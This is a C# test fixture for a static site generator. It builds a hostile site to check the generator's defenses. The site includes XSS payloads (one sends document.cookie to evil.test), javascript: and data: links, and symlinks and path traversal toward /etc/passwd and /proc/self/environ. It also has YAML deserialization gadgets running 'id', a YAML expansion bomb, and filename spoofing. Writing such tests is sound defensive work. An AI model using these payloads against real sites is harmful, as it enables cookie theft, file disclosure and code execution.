using System.Text;
using StaticGuide.Tests.Support;

namespace StaticGuide.Tests.Robustness;

/// <summary>A pull request of somebody who means harm: everything in it tries to read, write, run, reach or use up something.</summary>
public sealed class HostileSite : IDisposable
{
    /// <summary>What stands outside, and in no output ever.</summary>
    internal const string Secret = "the-secret-of-the-house";

    public HostileSite()
    {
        Around.Write("outside/secret.md", $"---\ntitle: {Secret}\n---\n{Secret}\n").Write("outside/secret.yml", $"sources: {Secret}\n");
        Write("content/site.yml", Site.Settings);
        Write("content/index.md", "---\ntitle: Home\n---\nWelcome.\n");
        Write("templates/page.html", "<!DOCTYPE html><title>{{ page.title }}</title><main>{{ page.content }}</main>\n");
        foreach (var (file, text) in Texts)
            Write("content/" + file, text);
        foreach (var (file, target) in Links)
        {
            Directory.CreateDirectory(Path.GetDirectoryName(Around.At("site/content/" + file))!);
            File.CreateSymbolicLink(Around.At("site/content/" + file), target.Replace("ROOT", Around.Root, StringComparison.Ordinal));
        }
    }

    /// <summary>The site is a folder in it, beside what it must not reach.</summary>
    internal Site Around { get; } = Site.Empty();

    internal string Root => Around.At("site");

    public void Dispose() => Around.Dispose();

    /// <summary>Symbolic links, with where each leads.</summary>
    internal static IReadOnlyList<(string File, string Target)> Links { get; } =
    [
        ("link-file.md", "../../outside/secret.md"),
        ("link-absolute.md", "ROOT/outside/secret.md"),
        ("link-system.md", "/etc/passwd"),
        ("link-picture.png", "/etc/hostname"),
        ("link-folder", "../../outside"),
        ("link-root", "/"),
        ("link-circle.md", "link-circle.md"),
        ("link-nowhere.md", "nothing.md"),
        ("link-device.md", "/dev/zero"),
        ("link-process.md", "/proc/self/environ"),
        ("evidence/link.yml", "../../../outside/secret.yml"),
        ("link-templates.md", "../templates/page.html"),
    ];

    /// <summary>Files with what stands in them.</summary>
    internal static IReadOnlyList<(string File, string Text)> Texts { get; } =
    [
        .. Pages(),
        .. Heads(),
        .. Evidence(),
        ("nul.md", "---\ntitle: N\n---\na\0b\n"),
        ("escape.md", "---\ntitle: E\n---\n\u001b[2J\u001b]0;owned\u0007\n"),
        ("turned.md", "---\ntitle: T\n---\nPay \u202egnp.exe\n"),
        ("big.md", "---\ntitle: B\n---\n" + new string('a', 17 * 1024 * 1024)),
    ];

    private static IEnumerable<(string File, string Text)> Pages()
    {
        (string Name, string Body)[] bodies =
        [
            ("script", "<script>fetch('//evil.test/'+document.cookie)</script>"),
            ("handler", "<img src=x onerror=alert(1)>"),
            ("frame", "<iframe src=\"//evil.test\"></iframe>"),
            ("form", "<form action=\"https://evil.test\"><input name=pw></form>"),
            ("style", "<style>@import 'https://evil.test/x.css';</style>"),
            ("meta", "<meta http-equiv=refresh content=\"0;url=https://evil.test\">"),
            ("object", "<object data=\"file:///etc/passwd\"></object>"),
            ("svg", "<svg onload=alert(1)></svg>"),
            ("js-link", "[a](javascript:alert(1))"),
            ("js-case", "[a](JaVaScRiPt:alert(1))"),
            ("js-entity", "[a](&#106;avascript:alert(1))"),
            ("data-link", "[a](data:text/html;base64,PHNjcmlwdD4=)"),
            ("vb-link", "[a](vbscript:msgbox(1))"),
            ("file-link", "[a](file:///etc/passwd)"),
            ("js-auto", "<javascript:alert(1)>"),
            ("js-label", "[a][b]\n\n[b]: javascript:alert(1)"),
            ("js-picture", "![a](javascript:alert(1))"),
            ("up-link", "[a](../../outside/secret.md)"),
            ("up-picture", "![a](../../../../../../etc/passwd)"),
            ("up-encoded", "[a](..%2f..%2foutside%2fsecret.md)"),
            ("up-root", "[a](/../outside/secret.md)"),
            ("up-back", "[a](..\\\\..\\\\outside)"),
            ("attribute", "## A {onclick=alert(1)}"),
            ("attribute-style", "[a](index.md){style=background:url(//evil.test)}"),
            ("directive", ":stat[../../outside/secret]"),
            ("citation", "[@outside-secret]"),
            ("chart", "::chart[../../etc/passwd]"),
            ("callout-deep", string.Concat(Enumerable.Range(0, 60).Select(i => new string(':', 70 - i) + "note\n"))),
        ];
        return bodies.Select(b => ($"page-{b.Name}.md", $"---\ntitle: P\n---\n{b.Body}\n"));
    }

    private static IEnumerable<(string File, string Text)> Heads()
    {
        (string Name, string Head)[] heads =
        [
            ("alias-up", "aliases: [/../../outside/x]"),
            ("alias-encoded", "aliases: [/%2e%2e/%2e%2e/x]"),
            ("alias-back", "aliases: ['/..\\..\\x']"),
            ("alias-host", "aliases: [//evil.test/]"),
            ("alias-nul", "aliases: [\"/a\\0b\"]"),
            ("slug-up", "slug: ../../x"),
            ("slug-dots", "slug: .."),
            ("slug-slash", "slug: a/b"),
            ("layout-up", "layout: ../../outside/secret"),
            ("layout-absolute", "layout: /etc/passwd"),
            ("tag-up", "tags: [..]"),
            ("anchor", "params: &a [*a]"),
            ("bomb", "params: {a: &a [x, x], b: &b [*a, *a], c: [*b, *b]}"),
            ("tag-yaml", "params: !!python/object/apply:os.system ['id']"),
            ("net-yaml", "params: !System.Diagnostics.Process {}"),
            ("deep", "params: " + new string('[', 5000)),
            ("key-twice", "title: Q"),
            ("unknown", "include: /etc/passwd"),
            ("date", "date: 9999-99-99"),
            ("weight", "weight: 99999999999999999999999"),
            ("original-up", "translation_of: ../../outside/secret.md"),
            ("original-host", "translation_of: //evil.test/"),
            ("language-up", "lang: ../../outside"),
        ];
        return heads.Select(h => ($"head-{h.Name}.md", $"---\ntitle: H\n{h.Head}\n---\nText.\n"));
    }

    private static IEnumerable<(string File, string Text)> Evidence()
    {
        // Whether an address is a public one is judged when it is asked (PrivateAddressTests).
        foreach (
            var (name, url) in new[]
            {
                ("file", "file:///etc/passwd"),
                ("user", "https://a:b@evil.test/"),
                ("script", "javascript:alert(1)"),
                ("none", "https://[::1/"),
            }
        )
            yield return ($"evidence/{name}.yml", $"sources:\n  - {{id: {name}, title: T, publisher: P, url: \"{url}\"}}\n");
        yield return (
            "evidence/formula.yml",
            "statistics:\n  - {id: f, label: F, unit: percent, derived: {formula: \"a ** 9999999999 + system('id')\", from: {a: f}}}\n"
        );
    }

    private void Write(string file, string text) => Around.Write("site/" + file, Encoding.UTF8.GetBytes(text));
}
